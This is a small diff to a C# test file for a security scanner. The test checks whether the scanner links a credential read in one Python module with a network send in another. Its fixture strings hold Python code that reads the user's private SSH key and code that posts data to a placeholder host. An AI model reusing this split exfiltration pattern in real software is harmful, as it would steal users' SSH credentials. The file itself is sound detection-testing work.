@@ -1,7 +1,8 @@
 namespace SecureStack.Scanner.Tests.Evasions;
 
 /// <summary>A credential read in one Python module and the send in another are linked through the imports between them.</summary>
-public sealed class CrossModuleTests : IClassFixture<ScannerFixture>
+[Collection(EvasionCollection.Name)]
+public sealed class CrossModuleTests
 {
     private const string Reader = "from pathlib import Path\n\n\ndef identity():\n    return Path.home().joinpath('.ssh', 'id_ed25519').read_text()\n";
     private const string Sender = "from requests import Session\n\n_s = Session()\n\n\ndef upload(data):\n    _s.post('https://example.invalid/u', data=data)\n";
